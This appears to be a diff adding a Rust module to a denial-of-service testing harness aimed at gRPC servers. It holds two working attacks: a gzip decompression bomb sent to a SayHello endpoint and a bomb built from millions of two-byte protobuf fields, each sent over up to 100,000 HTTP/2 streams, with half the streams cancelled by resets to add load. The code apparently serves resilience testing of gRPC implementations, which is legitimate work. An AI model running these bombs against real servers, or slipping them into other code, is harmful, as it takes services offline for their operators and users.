@@ -1,0 +1,96 @@
+//! Messages that are small on the wire and large in memory.
+
+use std::io::Write;
+use std::sync::LazyLock;
+
+use flate2::Compression;
+use flate2::write::GzEncoder;
+
+use crate::attacker::{Attacker, Over, request, streams};
+use crate::frames::reset;
+use crate::memory::MIB;
+use crate::support::{DATA, END_STREAM, frame};
+use crate::{Attack, Cost, Victim};
+
+const INITIAL_WINDOW_SIZE: u16 = 4;
+const CANCEL: u32 = 8;
+const SAY_HELLO: &str = "/helloworld.Greeter/SayHello";
+/// Answers with a message for each element of a list in the request.
+const STREAMING_OUTPUT: &str = "/grpc.testing.TestService/StreamingOutputCall";
+/// So many bombs go off at once, on each connection.
+const BOMBS: usize = 10;
+
+pub fn attacks() -> Vec<Attack> {
+    vec![
+        Attack {
+            name: "compression_bomb",
+            server: Victim::Tutorials,
+            cost: Cost::Bomb,
+            ends: &["open"],
+            round: |attacker| Box::pin(compression_bomb(attacker)),
+        },
+        Attack {
+            name: "amplification_by_tiny_fields",
+            server: Victim::Interop,
+            cost: Cost::Bomb,
+            ends: &["open"],
+            round: |attacker| Box::pin(tiny_fields(attacker)),
+        },
+    ]
+}
+
+/// Zeros: as many as a message may have and the reply then has too, or many more.
+async fn compression_bomb(attacker: &mut Attacker) -> Result<(), Over> {
+    static ALLOWED: LazyLock<Vec<u8>> = LazyLock::new(|| {
+        // Field 1, a text of 4,000,000 bytes.
+        bomb(&[&[0x0a, 0x80, 0x92, 0xf4, 0x01][..], &vec![0; 4_000_000]].concat())
+    });
+    static LARGER: LazyLock<Vec<u8>> =
+        LazyLock::new(|| bomb(&vec![0; usize::try_from(64 * MIB).unwrap()]));
+    let bomb = match attacker.number % 2 {
+        0 => &*ALLOWED,
+        _ => &*LARGER,
+    };
+    throw(attacker, SAY_HELLO, bomb).await
+}
+
+/// Two bytes that become an element of a list, or a number, two million times.
+async fn tiny_fields(attacker: &mut Attacker) -> Result<(), Over> {
+    const TIMES: usize = 2_000_000;
+    // Field 2 is a list of messages, of which each is empty here; field 1 a number.
+    static MESSAGES: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x12, 0].repeat(TIMES)));
+    static NUMBERS: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x08, 0].repeat(TIMES)));
+    let bomb = match attacker.number % 2 {
+        0 => &*MESSAGES,
+        _ => &*NUMBERS,
+    };
+    throw(attacker, STREAMING_OUTPUT, bomb).await
+}
+
+/// Throws one handful after another, and takes no reply.
+async fn throw(attacker: &mut Attacker, path: &str, bomb: &[u8]) -> Result<(), Over> {
+    attacker.begin(&[(INITIAL_WINDOW_SIZE, 0)]).await?;
+    let streams: Vec<u32> = streams().take(100_000).collect();
+    for handful in streams.chunks(BOMBS) {
+        for &stream in handful {
+            let gzip = [("grpc-encoding", "gzip")];
+            attacker.send(&request(stream, path, &gzip)).await?;
+            attacker.send_data(stream, bomb).await?;
+            attacker.send(&frame(DATA, END_STREAM, stream, &[])).await?;
+        }
+        // Half of them are given up.
+        for &stream in &handful[BOMBS / 2..] {
+            attacker.send(&reset(stream, CANCEL)).await?;
+        }
+    }
+    Ok(())
+}
+
+/// A message, compressed, prefix and all.
+fn bomb(message: &[u8]) -> Vec<u8> {
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
+    encoder.write_all(message).unwrap();
+    let body = encoder.finish().unwrap();
+    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
+    [&[1][..], &length, &body].concat()
+}
